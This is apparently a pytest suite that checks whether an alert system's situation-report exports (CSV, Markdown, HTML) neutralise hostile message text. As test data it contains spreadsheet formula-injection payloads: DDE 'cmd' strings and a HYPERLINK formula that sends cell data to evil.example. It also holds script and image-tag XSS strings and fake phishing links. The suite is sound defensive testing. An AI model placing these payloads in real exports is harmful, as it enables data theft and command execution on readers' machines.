"""Exports are safe by construction: text from a message is inert in a spreadsheet, in Markdown and in HTML.

CSV cells are read back with the csv module; Markdown is rendered by a real
CommonMark + GFM-tables renderer (markdown-it-py) and HTML parsed by lxml, so
each test sees what a reader's tool would.
"""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from alerts.core.markings import Classifications, Marking
from alerts.core.model import Alert, Placement, Routing, StoredAlert
from alerts.formats import sitrep
from alerts.formats.escape import FORMULA_STARTS, csv_cell, html_text, markdown_marking, markdown_text
from tests.conftest import make_alert

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
#: OWASP's examples and their variants: every one would be evaluated by a spreadsheet as it is.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u00a0 @SUM(1)", "\uff1d1+1", "\n-1+1"]
HOSTILE = ('<script>alert(1)</script> <img src=x onerror=alert(2)> [click](http://evil.example) '
           '![track](http://evil.example/t.png) | cell | **bold** `code`\n# heading\r\n| new | row |')


@pytest.mark.parametrize("payload", FORMULAS)
def test_esc001_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(payload):
    cell = csv_cell(payload)
    assert cell == "'" + payload
    assert cell.lstrip(" \u00a0")[0] not in FORMULA_STARTS


@pytest.mark.parametrize("value", ["Shots fired", "-12.5", "42", "1e-3", "", "a=b", "x-1", "O'Brien"])
def test_esc002_plain_text_and_numbers_are_kept_as_they_are(value):
    assert csv_cell(value) == value


def _stored(title: str, source: str = "RS") -> StoredAlert:
    """A stored alert whose title and source are set past validation (ingest refuses control characters;
    a renderer must be safe whatever it is given)."""
    alert = Alert.model_validate(make_alert()).model_copy(update={"title": title, "source": source})
    return StoredAlert(alert=alert, placement=Placement(country="RS", countries=["RS"]), received_at=NOW,
                       lon=21.4, lat=42.0, routing=Routing(releasable_to=["ALL"], caveats=["=CAVEAT"]))


def test_esc003_sitrep_csv_neutralises_every_cell_from_a_message():
    alerts = [_stored(f, source=f) for f in FORMULAS]
    rows = list(csv.reader(io.StringIO(sitrep.incidents_csv(alerts, Classifications()), newline="")))
    assert rows[0] == ["UNCLASSIFIED//=CAVEAT"]  # a caveat never starts the cell
    header, body = rows[1], rows[2:]
    assert header == sitrep.CSV_COLUMNS and len(body) == len(FORMULAS)
    for row, payload in zip(body, FORMULAS):
        record = dict(zip(header, row))
        assert record["title"].startswith("'") and record["source"].startswith("'")
        assert record["caveats"] == "'=CAVEAT"
        assert record["lat"] == "42.000000" and record["lon"] == "21.400000"
    dangerous = [c for row in body for c in row if c.lstrip(" \u00a0")[:1] in FORMULA_STARTS]
    assert dangerous == []


def _render(markdown: str) -> etree._Element:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(markdown)
    return etree.HTML(f"<div>{html}</div>")


def test_esc004_markdown_text_renders_as_the_literal_text_on_one_line():
    tree = _render(f"| a | b |\n|---|---|\n| {markdown_text(HOSTILE)} | x |\n")
    assert tree.xpath("//script|//img|//a|//strong|//h1") == []  # addresses are code spans: text, no link
    cells = tree.xpath("//tbody/tr")
    assert len(cells) == 1 and len(cells[0].findall("td")) == 2  # no cell and no row of its own
    shown = cells[0].findall("td")[0].xpath("string()")
    assert shown == HOSTILE.replace("\r", " ").replace("\n", " ")


def _figures(alerts: list[StoredAlert]) -> dict:
    incidents = [{"id": s.id, "title": s.alert.title, "severity": "high", "type": "border_incident", "status": "new",
                  "country": "RS", "region": "<b>Pčinja</b>", "reported_at": NOW.isoformat(),
                  "owner": "[me](http://x)", "exercise": False, "escalation_level": 0} for s in alerts]
    return {"window": {"since": NOW.isoformat(), "until": NOW.isoformat()}, "open_alerts": len(alerts),
            "open_by_severity": {"critical": 0, "high": len(alerts), "medium": 0, "low": 0}, "escalated_alerts": 0,
            "time_to_acknowledge": {"count": 0, "median_s": None, "p90_s": None},
            "time_to_resolve": {"count": 0, "median_s": None, "p90_s": None},
            "open_by_country": {"<i>RS</i>": len(alerts)}, "open_critical_high": incidents,
            "assets": {"ready": 1, "committed": 0, "by_nation": {"![x](y)": {"ready": 1, "committed": 0}},
                       "by_type": {}}}


def test_esc005_markdown_sitrep_shows_every_value_from_the_data_as_text():
    alerts = [_stored(HOSTILE)]
    marking = Marking("UNCLASSIFIED", ("<u>X</u>",))
    report = sitrep.markdown(_figures(alerts), marking, NOW, "RS", {alerts[0].id: marking})
    tree = _render(report)
    assert tree.xpath("//script|//img|//a|//i|//b|//u|//h1[contains(., 'heading')]") == []
    incidents = tree.xpath("//table")[1].xpath(".//tbody/tr")
    assert len(incidents) == 1 and len(incidents[0].findall("td")) == 7
    title = incidents[0].findall("td")[2].xpath("string()")
    assert "<script>alert(1)</script>" in title and "[click](http://evil.example)" in title
    assert "<u>X</u>" in tree.xpath("string(//p[1])")  # the banner's caveat, as text
    assert "![x](y): 0 committed" in tree.xpath("string(//li)")


def test_esc006_html_sitrep_escapes_every_value_and_allows_only_its_own_style():
    alerts = [_stored(HOSTILE)]
    marking = Marking("UNCLASSIFIED", ('"><script>x</script>',))
    page = sitrep.html_page(_figures(alerts), marking, NOW, "RS", {alerts[0].id: marking})
    tree = etree.HTML(page)
    assert tree.xpath("//script|//img|//a|//body//style|//i|//b|//u") == []
    assert HOSTILE.split("\n")[0] in tree.xpath("string(//table[2]//tr[2]/td[3])")
    assert '"><script>x</script>' in tree.xpath("string(//div[contains(@class,'banner')])")
    policy = sitrep.html_csp(page)
    assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy
    assert html_text("<a href='x'>") == "&lt;a href=&#39;x&#39;&gt;"


@pytest.mark.parametrize("text", ["see http://evil.example/?a=1 now", "www.evil.example/login", "mail ops@evil.example",
                                  "ftp://x.y|z", "`code` and https://e.x/`q`"])
def test_esc007_addresses_are_never_linked_even_by_gfm_or_linkify_renderers(text):
    """GFM autolink literals and linkify turn bare URLs, www. addresses and e-mail addresses into links
    after escapes are resolved: an address is shown as a code span instead, its text unchanged."""
    rendered = MarkdownIt("gfm-like").render(f"| a |\n|---|\n| {markdown_text(text)} |\n")
    tree = etree.HTML(f"<div>{rendered}</div>")
    assert tree.xpath("//a") == [] and len(tree.xpath("//td")) == 1
    assert tree.xpath("string(//td)").replace(" ", "") == text.replace(" ", "")


def test_esc008_every_csv_cell_is_quoted_so_no_locale_separator_splits_one():
    """Where a spreadsheet splits CSV on ``;`` (the region's locales), a title ``Road closed;=1+1`` must not
    yield a cell ``=1+1`` (OWASP: quote every cell)."""
    text = sitrep.incidents_csv([_stored("Road closed;=1+1;see notes")], Classifications())
    line = text.splitlines()[2]
    assert line.startswith('"') and '"Road closed;\'=1+1;see notes"' in line
    cells = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert not any(c.lstrip().startswith("=") for c in cells), cells


LINKIFY = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table"])


@pytest.mark.parametrize("text", ["Report casualties at evil-portal.com/login", "see x.org,y.org and a.com.evil.org",
                                  "IP 10.1.2.3/admin", "mail ops@evil-portal.com now", "σπίτι.gr/x here",
                                  "evil-portal.com`tick`example.org", "example.museum|other.com"])
def test_esc009_fuzzy_links_without_a_scheme_are_never_linked_by_markdown_it_linkify(text):
    """markdown-it with linkify (linkify-it-py) links ``evil-portal.com/login`` with no scheme: every link it
    would find is a code span instead, in running text and in a table cell alike, the text unchanged."""
    running = etree.HTML(f"<div>{LINKIFY.render(markdown_text(text))}</div>")
    table = f"| a |\n|---|\n| {markdown_text(text)} |\n"
    cell = etree.HTML(f"<div>{LINKIFY.render(table)}</div>")
    assert running.xpath("//a") == [] and cell.xpath("//a") == []
    assert cell.xpath("string(//td)").replace(" ", "") == text.replace(" ", "")  # as it was, in one cell
    if "|" not in text:  # (outside a table, a code span shows the cell's escaped pipe as it is)
        assert running.xpath("string(//p)").replace(" ", "") == text.replace(" ", "")


def test_esc010_a_marking_with_a_linkable_caveat_stays_one_readable_line():
    marking = Marking("RESTRICTED", ("WWW.EVIL.EXAMPLE",), releasable_to=("RS",))
    line = marking.line()
    assert line == "RESTRICTED//WWW.EVIL.EXAMPLE//REL TO RS"
    page = sitrep.markdown(_figures([]), marking, NOW, "RS")
    banner = page.splitlines()[0]
    assert banner == f"**`{line}`**"  # the whole line one code span: read as it is, nothing linked
    rendered = etree.HTML(f"<div>{MarkdownIt('gfm-like').render(banner)}</div>")
    assert rendered.xpath("//a") == [] and rendered.xpath("string(//code)") == line
    assert markdown_marking("SECRET//REL TO RS") == markdown_text("SECRET//REL TO RS")  # nothing to link: as before
